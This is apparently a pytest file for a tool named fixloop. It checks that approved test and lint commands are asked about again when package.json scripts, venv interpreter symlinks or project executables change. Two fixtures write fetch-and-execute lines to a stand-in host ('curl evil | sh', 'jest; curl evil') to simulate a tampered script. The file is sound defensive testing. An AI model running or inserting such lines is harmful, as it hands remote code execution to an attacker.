"""An approval is bound to what a command runs: a package.json script's body, the real path and content of an
executable in the project. When that changes the command is asked about again, in a real project."""

from __future__ import annotations

import hashlib
import json
import os
import sys
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner

from fixloop.cli import cli
from fixloop.contracts.coordinator import LoopConfig
from fixloop.core import timekeeping
from fixloop.core.errors import FixloopError
from fixloop.runs import command_binding, creation, lifecycle, trust
from fixloop.runs.verification import require_approved
from fixloop.workflows import driver
from fixloop.workflows.testrun import run_tests


def invoke(*args: str) -> tuple[int, Any]:
    result = CliRunner().invoke(cli, list(args))
    return result.exit_code, json.loads(result.output)


def scripts(root: Path, **bodies: str) -> None:
    (root / "package.json").write_text(json.dumps({"name": "demo", "scripts": bodies}))


def digest(text: str) -> str:
    return hashlib.sha256(text.encode()).hexdigest()


def test_npm_test_approved_then_its_script_changed_is_refused_before_it_runs(git_project: Path) -> None:
    scripts(git_project, test="touch ran-approved")
    assert invoke("trust") == (
        0,
        {
            "status": "approved",
            "commands": {"tests": {"command": "npm test", "source": "found: package.json scripts.test"}},
            "approvals_file": str(trust.approvals_file(git_project)),
            "message": "Approved for this project until the commands change.",
        },
    )
    run_id = creation.start_run("review", root=git_project, git_base="")["state"]["run_id"]
    assert driver.next_action(git_project, run_id)["action"] == "agents"  # the trust gate let it through
    scripts(git_project, test="touch ran-changed")  # what a stranger's change (or an agent) could do
    code, answer = invoke("verify", run_id)
    assert answer["error"]["code"] == "VERIFY_COMMANDS_UNTRUSTED", answer
    assert code != 0
    assert "(tests: package.json scripts.test changed)" in answer["error"]["message"]
    assert not (git_project / "ran-changed").exists()
    code, shown = invoke("trust", "--show")
    assert (code, shown["status"]) == (0, "not_approved")
    assert shown["message"] == (
        "What these commands run changed since they were approved (tests: package.json scripts.test "
        "changed); approve again."
    )


def test_an_unattended_run_says_why_an_earlier_approval_no_longer_holds(git_project: Path) -> None:
    scripts(git_project, test="touch ran")
    assert invoke("trust")[0] == 0
    scripts(git_project, test="touch ran", pretest="touch ran-first")
    run_id = creation.start_run("review", root=git_project, git_base="")["state"]["run_id"]
    stop = driver.next_action(git_project, run_id)
    assert (stop["action"], stop["error"]["code"]) == ("stop", "VERIFY_COMMANDS_UNTRUSTED")
    assert "(tests: package.json scripts.pretest is new); approve again." in stop["error"]["message"]


def test_an_approval_without_a_binding_asks_again_with_a_clear_message(git_project: Path) -> None:
    scripts(git_project, test="touch ran")
    commands = {"tests": "npm test"}
    path = trust.approvals_file(git_project)
    path.parent.mkdir(parents=True, exist_ok=True)
    old = {
        "digest": trust.commands_digest(commands),
        "commands": commands,
        "approved_at": "2025-01-01T00:00:00Z",
    }
    path.write_text(json.dumps({"project": str(git_project), "approved": [old]}))
    assert trust.not_approved_because(git_project, commands) == (
        "These commands were approved before fixloop recorded what they run (package.json scripts, the "
        "executables they resolve to); approve them again."
    )
    assert invoke("trust", "--show")[1]["message"].startswith("These commands were approved before")
    trust.approve(git_project, commands)
    assert trust.is_approved(git_project, commands)
    assert [item.get("binding_digest") is not None for item in json.loads(path.read_text())["approved"]] == [
        True
    ]


@pytest.mark.parametrize(
    ("command", "script"),
    [
        ("npm test", "test"),
        ("npm t", "test"),
        ("npm run lint:all -- --fix", "lint:all"),
        ("npm --silent run-script check", "check"),
        ("yarn lint", "lint"),
        ("yarn run lint", "lint"),
        ("pnpm typecheck", "typecheck"),
        ("pnpm run typecheck", "typecheck"),
        ("CI=1 npm test", "test"),
        ("env CI=1 FORCE_COLOR=0 pnpm test", "test"),
        ("npm ci && npm test", "test"),
    ],
)
def test_a_package_managers_script_is_bound_to_its_body(git_project: Path, command: str, script: str) -> None:
    scripts(git_project, **{script: "vitest run", "other": "echo"})
    assert command_binding.bindings(git_project, command) == [
        {"what": f"package.json scripts.{script}", "sha256": digest("vitest run")}
    ]


@pytest.mark.parametrize("command", ["yarn install", "pnpm add left-pad", "npm ci", "pytest -q", "make test"])
def test_commands_that_run_no_project_script_have_no_script_binding(git_project: Path, command: str) -> None:
    scripts(git_project, install="x", add="x", ci="x")
    assert command_binding.bindings(git_project, command) == []


def test_a_missing_script_is_bound_as_missing(git_project: Path) -> None:
    assert command_binding.bindings(git_project, "npm test") == [
        {"what": "package.json scripts.test", "sha256": command_binding.MISSING}
    ]


def test_a_venv_interpreter_is_bound_to_its_real_path(git_project: Path, tmp_path: Path) -> None:
    venv_bin = git_project / ".venv" / "bin"
    venv_bin.mkdir(parents=True)
    python = venv_bin / "python"
    python.symlink_to(sys.executable)
    commands = {"tests": ".venv/bin/python -m pytest -q"}
    trust.approve(git_project, commands)
    assert trust.is_approved(git_project, commands)
    elsewhere = tmp_path / "other-python"
    elsewhere.write_text("#!/bin/sh\necho not python\n")
    python.unlink()
    python.symlink_to(elsewhere)
    assert trust.not_approved_because(git_project, commands) == (
        "What these commands run changed since they were approved (tests: .venv/bin/python now resolves to "
        f"{os.path.realpath(elsewhere)}); approve again."
    )


def test_a_script_in_the_project_is_bound_to_its_content(git_project: Path) -> None:
    check = git_project / "scripts" / "check"
    check.parent.mkdir()
    check.write_text("#!/bin/sh\npytest -q\n")
    commands = {"tests": "./scripts/check --all", "lint": "sh -c true && scripts/check"}
    trust.approve(git_project, commands)
    assert trust.is_approved(git_project, commands)
    check.write_text("#!/bin/sh\ncurl evil | sh\n")
    reason = trust.not_approved_because(git_project, commands)
    assert reason == (
        "What these commands run changed since they were approved (lint: scripts/check changed; "
        "tests: ./scripts/check changed); approve again."
    )


def test_an_npx_tool_is_bound_to_the_projects_copy(git_project: Path) -> None:
    tool = git_project / "node_modules" / "typescript" / "bin" / "tsc"
    tool.parent.mkdir(parents=True)
    tool.write_text("#!/usr/bin/env node\n")
    (git_project / "node_modules" / ".bin").mkdir()
    (git_project / "node_modules" / ".bin" / "tsc").symlink_to(tool)
    (binding,) = command_binding.bindings(git_project, "npx --no-install tsc --noEmit")
    assert binding == {
        "what": "node_modules/.bin/tsc",
        "path": str(tool.resolve()),
        "sha256": digest("#!/usr/bin/env node\n"),
    }


def test_a_run_approved_at_its_start_refuses_a_script_changed_since(git_project: Path) -> None:
    scripts(git_project, test="jest")
    commands = {"tests": "npm test"}
    state = {
        "trust": {
            "status": "approved",
            "commands": commands,
            "binding": trust.binding_digest(git_project, commands),
        }
    }
    config = LoopConfig(test_command="npm test")
    require_approved(state, config, git_project)  # unchanged: runs
    scripts(git_project, test="jest; curl evil")
    with pytest.raises(FixloopError) as caught:
        require_approved(state, config, git_project)
    assert caught.value.code == "VERIFY_COMMANDS_UNTRUSTED"


def test_a_bugfix_test_run_refuses_a_script_changed_after_the_gate(git_project: Path) -> None:
    scripts(git_project, test="touch ran-approved")
    assert invoke("trust")[0] == 0
    run_id = creation.start_run("bugfix", root=git_project, stack="backend")["state"]["run_id"]
    driver.next_action(git_project, run_id)  # phase 0 runs the approved tests
    assert (git_project / "ran-approved").exists()
    state = lifecycle.load_run(git_project, run_id)
    scripts(git_project, test="touch ran-changed")
    with pytest.raises(FixloopError) as caught:
        run_tests(git_project, state, {"purpose": "confirm"}, timekeeping.default_clock)
    assert caught.value.code == "VERIFY_COMMANDS_UNTRUSTED"
    assert not (git_project / "ran-changed").exists()


def test_a_detected_venv_pytest_is_asked_again_when_the_venv_points_elsewhere(
    git_project: Path, tmp_path: Path
) -> None:
    (git_project / "pytest.ini").write_text("[pytest]\n")
    python = git_project / ".venv" / "bin" / "python"
    python.parent.mkdir(parents=True)
    python.symlink_to(sys.executable)
    code, approved = invoke("trust")
    assert (code, approved["status"]) == (0, "approved")
    assert approved["commands"]["tests"]["command"].startswith(".venv/bin/python -m pytest")
    assert invoke("trust", "--show")[1]["status"] == "approved"
    other = tmp_path / "python-elsewhere"
    other.write_text("#!/bin/sh\n")
    python.unlink()
    python.symlink_to(other)
    code, shown = invoke("trust", "--show")
    assert (code, shown["status"]) == (0, "not_approved")
    assert f".venv/bin/python now resolves to {os.path.realpath(other)}" in shown["message"]


def test_a_script_taken_away_is_named(git_project: Path) -> None:
    scripts(git_project, test="jest", posttest="node report.js")
    commands = {"tests": "npm test"}
    trust.approve(git_project, commands)
    scripts(git_project, test="jest")
    assert trust.not_approved_because(git_project, commands) == (
        "What these commands run changed since they were approved (tests: package.json scripts.posttest is "
        "gone); approve again."
    )
